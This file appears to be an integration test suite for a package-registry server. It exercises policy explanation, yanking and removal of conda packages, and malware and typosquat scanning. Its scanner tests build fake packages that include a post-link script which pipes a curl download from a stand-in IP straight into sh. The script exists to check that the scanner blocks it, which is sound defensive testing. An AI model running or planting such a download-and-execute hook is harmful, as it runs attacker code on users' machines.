"""Issue 7's remaining gaps, end to end against a real server on 127.0.0.1 (SQLite and
PostgreSQL): policy explain/test on conda channels, removing and yanking conda packages,
malware scans and typosquat checks of conda packages (py-rattler is the client).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Server
from tests.integration.test_conda import (
    Channel,
    _channel_url,
    _names,
    _packages,
    _solve_install,
    channel,
)

pytestmark = pytest.mark.slow
__all__ = ["channel"]  # the fixture, imported for the tests below

DENY_OLD_LIB = '[[rules]]\nkind = "names"\ndeny = ["lib<2"]\n'
DRAFT = '[[rules]]\nkind = "names"\ndeny = ["app"]\n'


def _json(server: Server, *args: str) -> Any:
    return json.loads(server.cli(*args, "--json").stdout)


# -- 1. policy explain / policy test on channels -------------------------------------------------


def test_policy_explain_and_draft_test_on_channels(
    server: Server, channel: Channel, tmp_path: Path
) -> None:
    server.cli("conda", "channel", "create", "internal", "--private")
    server.cli("conda", "upload", "-c", "internal", *(str(p) for p in channel.pkgs.values()))
    server.cli(
        "conda", "channel", "create", "cf", "--mirror", channel.upstream.url,
        "--subdirs", "noarch,linux-64",
    )  # fmt: skip
    policy = tmp_path / "p.toml"
    policy.write_text(DENY_OLD_LIB)
    draft = tmp_path / "draft.toml"
    draft.write_text(DRAFT)
    admin = server.admin_token
    for name in ("internal", "cf"):
        # No policy: everything allowed, with the data the rules would read.
        rows = _json(server, "policy", "explain", name, "lib")
        assert {r["filename"]: r["allowed"] for r in rows} == {
            "lib-1.0-0.tar.bz2": True,
            "lib-2.0-0.conda": True,
        }
        server.cli("policy", "set", name, "--file", str(policy))
        rows = _json(server, "policy", "explain", name, "lib")
        by_file = {r["filename"]: r for r in rows}
        old, new = by_file["lib-1.0-0.tar.bz2"], by_file["lib-2.0-0.conda"]
        assert old["allowed"] is False and old["subdir"] == "noarch"
        assert any("deny pattern 'lib<2'" in b for b in old["blocked_by"])
        assert new["allowed"] is True and new["blocked_by"] == []
        assert new["data"]["license"] == "MIT" and new["data"]["license_spdx"] == "MIT"
        assert new["data"]["timestamp"].startswith("2024-01-02")
        assert len(new["data"]["sha256"]) == 64
        only = _json(server, "policy", "explain", name, "lib", "2.0")
        assert [r["filename"] for r in only] == ["lib-2.0-0.conda"]
        text = server.cli("policy", "explain", name, "lib").stdout
        assert "BLOCKED  noarch/lib-1.0-0.tar.bz2" in text and "lib<2" in text
        with server.http(admin) as c:
            api = c.get(f"/api/v1/indexes/{name}/policy/explain", params={"project": "lib"})
            assert api.status_code == 200, api.text
            assert {r["filename"]: r["allowed"] for r in api.json()} == {
                "lib-1.0-0.tar.bz2": False,
                "lib-2.0-0.conda": True,
            }
            tested = c.post(f"/api/v1/indexes/{name}/policy/test", content=DRAFT)
            assert tested.status_code == 200, tested.text
        # The draft: app blocked instead of lib<2 (nothing stored).
        for report in (_json(server, "policy", "test", name, "--file", str(draft)), tested.json()):
            assert report["files_checked"] == 4 and report["projects_checked"] == 3
            assert report["blocked_before"] == 1 and report["blocked_after"] == 1
            changes = {c["project"]: c for c in report["changes"]}
            assert set(changes) == {"app", "lib"}
            assert [x["filename"] for x in changes["app"]["newly_blocked"]] == [
                "linux-64/app-2.0-0.conda"
            ]
            assert [x["filename"] for x in changes["lib"]["newly_allowed"]] == [
                "noarch/lib-1.0-0.tar.bz2"
            ]
        text = server.cli("policy", "test", name, "--file", str(draft)).stdout
        assert "+ blocked linux-64/app-2.0-0.conda" in text
        # Still the policy in force: lib 1.0 blocked, app allowed.
        assert _json(server, "policy", "explain", name, "app")[0]["allowed"] is True
    # An exception shows in explain as allowed, with the rule kept as a warning.
    server.cli("policy", "allow", "internal", "lib<2", "--reason", "pinned by the app team")
    rows = _json(server, "policy", "explain", "internal", "lib", "1.0")
    assert rows[0]["allowed"] is True and "pinned by the app team" in rows[0]["exception"]
    assert any("lib<2" in w for w in rows[0]["warnings"])
    token = server.token("internal", "read")
    url = _channel_url(server, "internal", token)
    assert _names(_solve_install(url, ["app"], tmp_path / "s", install=False)) == {
        "app": "2.0",
        "lib": "1.0",
    }
    unknown = _json(server, "policy", "explain", "internal", "nosuch")
    assert unknown == []
    assert _packages  # (shared builders)


# -- 2. remove and yank --------------------------------------------------------------------------


def _install(records: list[Any], prefix: Path) -> None:
    import asyncio

    import rattler

    asyncio.run(
        rattler.install(records, prefix, cache_dir=prefix.parent / "pkgs", show_progress=False)
    )


def test_remove_and_yank_private_packages(server: Server, channel: Channel, tmp_path: Path) -> None:
    import threading

    import httpx

    pkgs = channel.pkgs
    server.cli("conda", "channel", "create", "internal", "--private")
    server.cli("conda", "upload", "-c", "internal", *(str(p) for p in pkgs.values()))
    reader = server.token("internal", "read")
    url = _channel_url(server, "internal", reader)
    locked = _solve_install(url, ["app"], tmp_path / "lock", install=False)  # "a lock file"
    assert _names(locked) == {"app": "2.0", "lib": "1.0"}

    # A reader polls the documents all along: each is whole, one of the states in order.
    states = [
        {"lib-1.0-0.tar.bz2", "lib-2.0-0.conda"},
        {"lib-2.0-0.conda"},
        {"lib-1.0-0.tar.bz2", "lib-2.0-0.conda"},
        {"lib-1.0-0.tar.bz2"},
    ]
    seen: list[set[str]] = []
    errors: list[str] = []
    stop = threading.Event()

    def poll() -> None:
        with httpx.Client(base_url=server.url, auth=("__token__", reader), timeout=30) as c:
            while not stop.is_set():
                r = c.get("/conda/internal/noarch/repodata.json")
                try:
                    data = r.json()
                except ValueError as exc:
                    errors.append(f"not JSON: {exc}: {r.status_code} {r.text[:300]}")
                    return
                names = set(data["packages"]) | set(data["packages.conda"])
                if names not in states:
                    errors.append(f"unexpected {names}")
                    return
                if not seen or seen[-1] != names:
                    seen.append(names)

    t = threading.Thread(target=poll)
    t.start()
    try:
        # A write token cannot yank or remove; admin on the channel can.
        writer = server.token("internal", "write")
        with server.http(writer) as c:
            r = c.post("/api/v1/conda/internal/packages/noarch/lib-1.0-0.tar.bz2/yank")
            assert r.status_code == 403, r.text
            r = c.delete("/api/v1/conda/internal/packages/noarch/lib-2.0-0.conda")
            assert r.status_code == 403, r.text
        yanked = _json(
            server, "conda", "yank", "-c", "internal", "lib-1.0-0.tar.bz2", "--reason", "CVE fix"
        )
        assert yanked["yanked"] is True and yanked["yank_reason"] == "CVE fix"
        with server.http(reader) as c:
            data = c.get("/conda/internal/noarch/repodata.json").json()
            assert "lib-1.0-0.tar.bz2" not in data["packages"]
            assert data["removed"] == ["lib-1.0-0.tar.bz2"]
            # Still downloadable by its exact URL (existing locks).
            r = c.get("/conda/internal/noarch/lib-1.0-0.tar.bz2")
            assert r.status_code == 200 and r.content == pkgs["lib"].read_bytes()
        assert _names(_solve_install(url, ["lib"], tmp_path / "y1", install=False)) == {
            "lib": "2.0"
        }
        with pytest.raises(Exception, match="lib"):  # app needs lib <2: only the yanked one
            _solve_install(url, ["app"], tmp_path / "y2", install=False, sharded=True)
        _install(locked, tmp_path / "fromlock" / "prefix")  # the lock still installs
        assert (tmp_path / "fromlock" / "prefix" / "share/lib/lib.txt").read_text() == "lib 1.0\n"

        admin = server.token("internal", "admin")
        with server.http(admin) as c:
            r = c.post("/api/v1/conda/internal/packages/noarch/lib-1.0-0.tar.bz2/unyank")
            assert r.status_code == 200 and r.json()["yanked"] is False, r.text
        assert _names(_solve_install(url, ["app"], tmp_path / "y3", install=False)) == {
            "app": "2.0",
            "lib": "1.0",
        }
        with server.http(admin) as c:
            r = c.delete("/api/v1/conda/internal/packages/noarch/lib-2.0-0.conda")
            assert r.status_code == 200, r.text
            assert c.get("/conda/internal/noarch/lib-2.0-0.conda").status_code == 404
            again = c.delete("/api/v1/conda/internal/packages/noarch/lib-2.0-0.conda")
            assert again.status_code == 404
        # rattler no longer solves to the removed record (sharded and not).
        for sharded in (False, True):
            got = _solve_install(url, ["lib"], tmp_path / f"r{sharded}", sharded=sharded)
            assert _names(got) == {"lib": "1.0"}
        with pytest.raises(Exception, match="lib"):
            _solve_install(url, ["lib >=2"], tmp_path / "r3", install=False)
    finally:
        stop.set()
        t.join(30)
    assert not errors, errors
    it = iter(states)  # what the reader saw is the states in order (some may be skipped)
    assert all(any(x == y for y in it) for x in seen), seen
    assert seen[0] == states[0] and seen[-1] == states[-1]

    removed = server.cli("conda", "remove", "-c", "internal", "tool-0.1-0.tar.bz2").stdout
    assert "removed linux-64/tool-0.1-0.tar.bz2" in removed
    stored = {p["filename"] for p in _json(server, "conda", "packages", "internal")}
    assert stored == {"lib-1.0-0.tar.bz2", "app-2.0-0.conda"}
    missing = server.cli("conda", "remove", "-c", "internal", "nope-1-0.conda", check=False)
    assert missing.returncode != 0 and "not a package" in missing.stderr
    events = json.loads(server.cli("audit", "list", "--json", "--limit", "200").stdout)
    actions = [e["action"] for e in events if e["action"].startswith("conda.")]
    assert sorted(actions) == ["conda.remove", "conda.remove", "conda.unyank", "conda.yank"]
    server.cli(
        "conda", "channel", "create", "cf", "--mirror", channel.upstream.url, "--subdirs", "noarch"
    )
    refused = server.cli("conda", "yank", "-c", "cf", "lib-2.0-0.conda", check=False)
    assert refused.returncode != 0 and "mirror" in refused.stderr


# -- 3. and 4. malware scans and typosquat checks of conda packages -----------------------------

# Harmless look-alikes written by the test (never installed, never run): the shape of real
# malware that the static scanner's rules match.
POST_LINK = b"#!/bin/bash\ncurl -s http://203.0.113.7/x | sh\n"
THREATS_POLICY = '[[rules]]\nkind = "threats"\nblock = ["malicious"]\n'


def _hostile(out: Path) -> dict[str, Path]:
    from tests.conda_builders import build_conda
    from tests.integration.test_threats import EVIL_INIT

    return {
        # a module under site-packages that decodes and executes a download cradle
        "evilmod": build_conda(
            out, "colorkit", "1.0",
            files={"site-packages/colorkit/__init__.py": EVIL_INIT.encode()},
        ),
        # a post-link script conda would run at install
        "evilhook": build_conda(
            out, "tidyhook", "1.0", fmt=".tar.bz2",
            files={"bin/.tidyhook-post-link.sh": POST_LINK, "share/tidyhook/x.txt": b"x\n"},
        ),
        "benign": build_conda(
            out, "colorkit", "0.9",
            files={"site-packages/colorkit/__init__.py": b"def red():\n    return 'red'\n"},
        ),
        "squat": build_conda(out, "pytroch", "2.0"),  # swapped letters of pytorch
    }  # fmt: skip


def test_conda_packages_are_scanned_and_name_checked(server: Server, tmp_path: Path) -> None:
    from tests.conda_builders import CondaUpstream, write_channel

    pkgs = _hostile(tmp_path / "dist")
    # stockade inspect reads conda files (nothing is run, nothing is extracted to disk)
    res = server.cli("inspect", "--json", *(str(p) for p in pkgs.values()), check=False)
    verdicts = {
        Path(r["file"]).name: r["verdict"] for r in map(json.loads, res.stdout.splitlines())
    }
    assert res.returncode == 1
    assert verdicts == {
        "colorkit-1.0-0.conda": "malicious",
        "tidyhook-1.0-0.tar.bz2": "malicious",
        "colorkit-0.9-0.conda": "clean",
        "pytroch-2.0-0.conda": "clean",
    }
    names = server.cli("names", "check", "--ecosystem", "conda", "pytroch", "numpy", check=False)
    assert names.returncode == 1 and "pytorch" in names.stdout

    policy = tmp_path / "threats.toml"
    policy.write_text(THREATS_POLICY)
    server.cli("conda", "channel", "create", "internal", "--private")
    server.cli("policy", "set", "internal", "--file", str(policy))
    server.cli("conda", "upload", "-c", "internal", *(str(p) for p in pkgs.values()))
    up = CondaUpstream(write_channel(tmp_path / "channel", list(pkgs.values()), ("noarch",)))
    try:
        server.cli("conda", "channel", "create", "cf", "--mirror", up.url, "--subdirs", "noarch")
        server.cli("policy", "set", "cf", "--file", str(policy))
        token = server.token("*", "read")
        with server.http(token) as c:
            for name in ("internal", "cf"):
                base = f"/conda/{name}/noarch"
                listed = c.get(f"{base}/repodata.json").json()
                served = set(listed["packages"]) | set(listed["packages.conda"])
                # typosquats are known from the name alone: never listed
                assert "pytroch-2.0-0.conda" not in served
                r = c.get(f"{base}/pytroch-2.0-0.conda")
                assert r.status_code == 403 and "typosquat" in r.text and "pytorch" in r.text
                # uploads were scanned before their repodata was written; a mirror's file is
                # scanned on its first fetch, which the verdict then blocks
                if name == "internal":
                    assert served == {"colorkit-0.9-0.conda"}
                for fn, where in (
                    ("colorkit-1.0-0.conda", "site-packages/colorkit/__init__.py"),
                    ("tidyhook-1.0-0.tar.bz2", "bin/.tidyhook-post-link.sh"),
                ):
                    r = c.get(f"{base}/{fn}")
                    assert r.status_code == 403, (name, fn, r.text)
                    assert "malware-scanner" in r.text and where in r.text, r.text
                assert c.get(f"{base}/colorkit-0.9-0.conda").status_code == 200
                listed = c.get(f"{base}/repodata.json").json()
                assert set(listed["packages"]) | set(listed["packages.conda"]) == {
                    "colorkit-0.9-0.conda"
                }
                rows = _json(server, "policy", "explain", name, "colorkit")
                by_file = {r["filename"]: r for r in rows}
                bad = by_file["colorkit-1.0-0.conda"]
                assert bad["allowed"] is False
                assert any("malware-scanner" in b for b in bad["blocked_by"])
                assert any("exec-decoded" in f for f in bad["data"]["findings"])
                good = by_file["colorkit-0.9-0.conda"]
                assert good["allowed"] is True and good["data"]["findings"] == []
        url = _channel_url(server, "cf", token)
        solved = _solve_install(url, ["colorkit"], tmp_path / "s", install=False)
        assert _names(solved) == {"colorkit": "0.9"}  # the malicious 1.0 is never offered
        with pytest.raises(Exception, match="tidyhook"):
            _solve_install(url, ["tidyhook"], tmp_path / "t", install=False)
    finally:
        up.close()
    findings = json.loads(server.cli("audit", "list", "--json", "--limit", "200").stdout)
    flagged = {e["filename"] for e in findings if e["action"] == "threat.finding"}
    assert {"colorkit-1.0-0.conda", "tidyhook-1.0-0.tar.bz2"} <= flagged
